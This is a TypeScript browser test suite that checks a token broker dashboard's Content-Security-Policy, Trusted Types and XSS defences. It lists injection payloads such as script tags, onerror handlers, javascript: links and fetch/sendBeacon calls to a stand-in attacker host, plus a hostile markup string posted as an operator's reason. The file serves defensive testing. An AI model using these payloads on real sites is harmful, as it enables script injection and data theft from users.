import type { Group, Siege } from '../attack.ts';
import type { Browser } from '../browser/browser.ts';
import type { Passing } from '../browser/front.ts';
import { toSiege, type PageAttack } from '../browser/page-attack.ts';

/** What stands in the dashboard's page, or runs there, and the directive of its policy that must keep it from what it tries. `SITE` is the attacker's. */
type Row = readonly [what: string, directive: string];

const markup: readonly Row[] = [
  ['<script>won = "ran"</script>', 'script-src-elem'],
  ['<script src="SITE/x.js"></script>', 'script-src-elem'],
  ['<link rel="modulepreload" href="SITE/x.js">', 'script-src-elem'],
  [
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["SITE/ahead"]}]}</script>',
    'script-src-elem',
  ],
  [`<img src="/dashboard/icon.svg" onload="won = 'ran'">`, 'script-src-attr'],
  [`<a id="go" href="javascript:won = 'ran'">x</a>`, 'script-src-elem'],
  ['<link rel="stylesheet" href="SITE/x.css">', 'style-src-elem'],
  ['<style>body { background: url(SITE/css) }</style>', 'style-src-elem'],
  ['<p style="background: url(SITE/css)">x</p>', 'style-src-attr'],
  ['<img src="SITE/picture">', 'img-src'],
  ['<video poster="SITE/picture"></video>', 'img-src'],
  ['<svg><image href="SITE/picture" /></svg>', 'img-src'],
  ['<video src="SITE/film"></video>', 'media-src'],
  ['<iframe src="SITE/frame"></iframe>', 'frame-src'],
  ['<object data="SITE/object"></object>', 'object-src'],
  ['<link rel="prefetch" href="SITE/ahead">', 'default-src'],
  ['<link rel="preload" as="fetch" crossorigin href="SITE/ahead">', 'connect-src'],
  ['<base href="SITE/">', 'base-uri'],
  ['<form action="SITE/form"><button id="go">x</button></form>', 'form-action'],
  ['<a id="go" href="#x" ping="SITE/ping">x</a>', 'connect-src'],
];

const script: readonly Row[] = [
  ['fetch("SITE/fetch", { mode: "no-cors" })', 'connect-src'],
  ['navigator.sendBeacon("SITE/beacon", "x")', 'connect-src'],
  ['new WebSocket("SITE/socket".replace("http", "ws"))', 'connect-src'],
  ['new EventSource("SITE/events")', 'connect-src'],
  ['new Image().src = "SITE/picture"', 'img-src'],
  ['setTimeout("won = 1")', 'script-src'],
  ['new Worker("/dashboard/words.js")', 'worker-src'],
  ['navigator.serviceWorker.register("/dashboard/words.js").then(() => { won = "registered"; })', 'worker-src'],
];

const sink = 'require-trusted-types-for';
/** In a browser that has Trusted Types, text is not even tried as markup or as script. */
const sinks: readonly Row[] = [
  [`document.body.innerHTML = '<img src="SITE/picture">'`, sink],
  [`document.body.setAttribute('onclick', 'won = 1')`, sink],
  [`document.createElement('script').text = 'won = 1'`, sink],
  [`document.createElement('script').src = 'SITE/x.js'`, sink],
  [`new DOMParser().parseFromString('<p>', 'text/html')`, sink],
  [`trustedTypes.createPolicy('x', { createHTML: (text) => text })`, 'trusted-types'],
];

const trustedTypes = /; require-trusted-types-for 'script'; trusted-types 'none'/;

/** A page under the dashboard's policy, with nothing in it but what has got in. @param isOld for a browser that has no Trusted Types. */
function showing(text: string, isOld: boolean) {
  return ({ headers }: Passing): Passing => {
    const policy = String(headers['content-security-policy']);
    return {
      headers: { ...headers, 'content-security-policy': isOld ? policy.replace(trustedTypes, '') : policy },
      body: `<!doctype html><meta charset="utf-8"><title>Token broker</title><body>${text}`,
    };
  };
}

type Kind = 'markup' | 'script' | 'text';

const toAttack =
  (kind: Kind) =>
  ([what, directive]: Row): PageAttack => {
    const at = ({ foreign }: Browser) => what.replaceAll('SITE', foreign['another site']);
    return {
      name: `${kind} in the dashboard: ${what}`,
      url: ({ broker }) => `${broker}/dashboard`,
      behaviour: (browser) => ({ change: showing(kind === 'markup' ? at(browser) : '', kind !== 'text') }),
      carryOut: async ({ page, browser }) => {
        const act = kind === 'markup' ? 'document.querySelector("#go")?.click()' : at(browser);
        await page.evaluate(`(() => { try { ${act} } catch {} })()`);
        return page.evaluate(`keptFrom(${JSON.stringify(directive)})`);
      },
    };
  };

/** What an operator writes as a reason stands on the page of every other. */
const hostile = `"><img src=x onerror="won='markup'"><script>won='script'</script>`;
const words: Siege = [
  'markup in the words of an operator',
  async (at) => {
    const { status } = await at.signedIn.ask({
      method: 'POST',
      path: '/v1/rotations/partner-loyalty/pause',
      headers: [
        ['Authorization', `Bearer ${at.token('platform')}`],
        ['Content-Type', 'application/json'],
        ['Idempotency-Key', 'words'],
      ],
      body: JSON.stringify({ reason: hostile }),
    });
    if (status !== 200) return [`The words are refused: ${status}.`];
    const browser = await at.browser();
    const page = await browser.open(`${browser.broker}/dashboard#subscription-partner-loyalty`);
    await page.getByText(hostile).first().waitFor();
    const won = await page.evaluate('won ?? document.querySelectorAll("img[src=x], main script").length');
    return won === 0 ? [] : [`won: ${JSON.stringify(won)}`];
  },
];

const attacks: readonly PageAttack[] = [
  {
    name: 'a window that another site opens is not its to look into',
    url: ({ foreign }) => foreign['another site'],
    carryOut: async ({ page, browser }) => {
      const opening = page.waitForEvent('popup');
      await page.evaluate(
        `void (globalThis.opened = open(${JSON.stringify(`${browser.broker}/dashboard#${hostile}`)}))`,
      );
      const opened = await opening;
      await opened.getByRole('heading', { name: 'Subscriptions' }).waitFor();
      const [isHeld, ran] = await Promise.all([
        page.evaluate('opened.closed ? undefined : "the window is held"'),
        opened.evaluate('won ?? (opener === null ? undefined : "it knows who opened it")'),
      ]);
      return isHeld ?? ran;
    },
  },
  {
    name: 'an address with markup in it is not told back as a page',
    url: ({ broker }) => `${broker}/v1/rotations/${encodeURIComponent(hostile)}`,
    carryOut: ({ page }) => page.evaluate('won ?? document.querySelector("img, script")?.outerHTML'),
    asked: [`GET /v1/rotations/${encodeURIComponent(hostile)} 404 +`],
  },
];

/** The page that was left is not shown again without asking who looks. */
const signedOut: Siege = [
  'going back after signing out',
  async (at) => {
    const browser = await at.browser();
    await browser.signIn(await at.cookieOf('auditor'));
    browser.front.begin();
    try {
      const page = await browser.open(`${browser.broker}/dashboard`);
      await page.getByRole('heading', { name: 'Subscriptions' }).waitFor();
      await page.goto(`${browser.broker}/.auth/logout?post_logout_redirect_uri=/.auth/logout/complete`);
      await browser.front.asked(0);
      browser.front.begin();
      await page.goBack({ waitUntil: 'commit' });
      const [first] = await browser.front.asked(1);
      return first === 'GET /dashboard 302' ? [] : [`asked first: ${first ?? 'nothing'}`];
    } finally {
      await browser.tidy();
    }
  },
];

/** No attack: who may steer does, on the page that is there for it, and it is seen by whatever the attacks are held to. */
const ownPage: Siege = [
  'the dashboard itself steers',
  async (at) => {
    const steer = toSiege({
      name: '',
      url: ({ broker }) => `${broker}/dashboard#subscription-okq8-core`,
      carryOut: async ({ page }) => {
        await page.getByRole('button', { name: 'Pause' }).first().click();
        await page.getByLabel('Why').fill('A drill');
        await page.keyboard.press('Enter');
        await page.getByText('Pause, okq8-core: done.').waitFor();
      },
    })[1];
    const seen = await steer(at);
    const due = ['rotation.pause is on record as allowed', 'the rotation has been steered'];
    return String(seen) === String(due) ? [] : [`seen: ${seen.join('; ')}`];
  },
];

export const dashboardPage: Group = {
  name: 'The dashboard’s page, in Chromium',
  guarantee: 1,
  needsBrowser: true,
  rows: [],
  sieges: [
    ...[
      ...markup.map(toAttack('markup')),
      ...script.map(toAttack('script')),
      ...sinks.map(toAttack('text')),
      ...attacks,
    ].map(toSiege),
    words,
    signedOut,
    ownPage,
  ],
};
